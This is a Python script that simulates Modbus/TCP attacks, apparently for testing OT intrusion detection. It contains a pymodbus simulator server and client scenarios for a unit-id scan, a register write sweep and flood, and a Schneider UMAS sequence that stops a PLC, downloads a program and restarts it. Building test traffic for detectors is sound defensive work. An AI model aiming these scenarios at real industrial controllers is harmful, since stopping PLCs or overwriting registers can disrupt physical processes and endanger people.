"""Modbus/TCP attack scenarios for make-ot.sh: pymodbus server and client.

  python3 modbus_attack.py server IP             units 1..20, 100 holding
                                                 registers each (0..99), and a
                                                 UMAS (function 90) simulator
  python3 modbus_attack.py client IP SCENARIO    one of:

  modbus-scan    read 1 holding register from each unit id 1..20 (a unit-id
                 scan), then 12 reads of unmapped registers 500..511 of
                 unit 1 (each answered with exception 2, illegal address)
  modbus-writes  write_register to addresses 0..39 of unit 1 (a write sweep),
                 then 100 more writes to address 5 at once (a write flood),
                 then 12 writes to unmapped addresses 500..511 (refused with
                 exception 2)
  umas           Schneider UMAS over function 90, unit 0 (session 0):
                 read id (0x02), STOP_PLC (0x41), initialize download (0x33),
                 download block (0x34), end download (0x35), START_PLC
                 (0x40), initialize upload (0x30), upload block (0x31), end
                 upload (0x32). The server answers each with UMAS "OK" (0xFE).
"""
import asyncio
import logging
import struct
import sys

from pymodbus.client import AsyncModbusTcpClient
from pymodbus.pdu import ModbusPDU
from pymodbus.server import StartAsyncTcpServer
from pymodbus.simulator import DataType, SimData, SimDevice

UNITS = range(1, 21)


class Umas(ModbusPDU):
    """Function 90 (UMAS): session byte, UMAS code, data. Both directions."""

    function_code = 90
    rtu_frame_size = 0

    def __init__(self, payload=b"", dev_id=0, transaction_id=0):
        super().__init__(dev_id=dev_id, transaction_id=transaction_id)
        self.payload = payload

    def encode(self):
        return self.payload

    def decode(self, data):
        self.payload = bytes(data)

    async def datastore_update(self, context, device_id):
        # A tiny UMAS simulator: "OK" (0xFE) with the session byte echoed.
        session = self.payload[:1] or b"\x00"
        data = b""
        if self.payload[1:2] == b"\x31":  # upload block: a few bytes of "program"
            data = struct.pack("<H", 8) + b"PRG\x00BLK1"
        return Umas(session + b"\xfe" + data, dev_id=device_id, transaction_id=self.transaction_id)


async def server(ip):
    devs = [SimDevice(id=u, simdata=[SimData(address=0, count=100, values=0, datatype=DataType.REGISTERS)])
            for u in UNITS]
    await StartAsyncTcpServer(context=devs, address=(ip, 502), custom_pdu=[Umas])


def expect_ok(what, rr):
    if rr.isError():
        raise SystemExit(f"{what}: {rr}")


def expect_exc(what, rr):
    if not rr.isError():
        raise SystemExit(f"{what}: no exception: {rr}")


async def scan(c):
    for u in UNITS:
        expect_ok(f"read unit {u}", await c.read_holding_registers(0, count=1, device_id=u))
    print(f"unit-id scan 1..{UNITS[-1]}: ok")
    for a in range(500, 512):
        expect_exc(f"read {a}", await c.read_holding_registers(a, count=1, device_id=1))
    print("12 reads of unmapped registers: exceptions as expected")


async def writes(c):
    for a in range(40):
        expect_ok(f"write {a}", await c.write_register(a, a + 100, device_id=1))
    print("write sweep 0..39: ok")
    for i in range(100):
        expect_ok(f"flood {i}", await c.write_register(5, i, device_id=1))
    print("100-write flood: ok")
    for a in range(500, 512):
        expect_exc(f"write {a}", await c.write_register(a, 1, device_id=1))
    print("12 writes to unmapped registers: refused as expected")


async def umas(c):
    c.register(Umas)
    steps = [
        ("read id", b"\x00\x02"),
        ("STOP_PLC", b"\x00\x41\xff\x00"),
        ("initialize download", b"\x00\x33\x01\x00\xfb\x03"),
        ("download block", b"\x00\x34\x01\x01\x00\x08\x00PRG\x00BLK1"),
        ("end download", b"\x00\x35\x01\x01\x00"),
        ("START_PLC", b"\x00\x40\xff\x00"),
        ("initialize upload", b"\x00\x30\x01\x00"),
        ("upload block", b"\x00\x31\x01\x01\x00\x00\x00"),
        ("end upload", b"\x00\x32\x01\x01\x00"),
    ]
    for what, payload in steps:
        rr = await c.execute(False, Umas(payload, dev_id=0))
        if not isinstance(rr, Umas) or rr.payload[1:2] != b"\xfe":
            raise SystemExit(f"UMAS {what}: {rr}")
        print(f"UMAS {what} (0x{payload[1]:02x}): ok")
        await asyncio.sleep(0.1)


async def client(ip, scenario):
    c = AsyncModbusTcpClient(ip, port=502, timeout=3, retries=0)
    if not await c.connect():
        raise SystemExit("connect failed")
    await {"modbus-scan": scan, "modbus-writes": writes, "umas": umas}[scenario](c)
    c.close()


if __name__ == "__main__":
    logging.basicConfig(level=logging.ERROR)
    mode, ip = sys.argv[1], sys.argv[2]
    asyncio.run(server(ip) if mode == "server" else client(ip, sys.argv[3]))
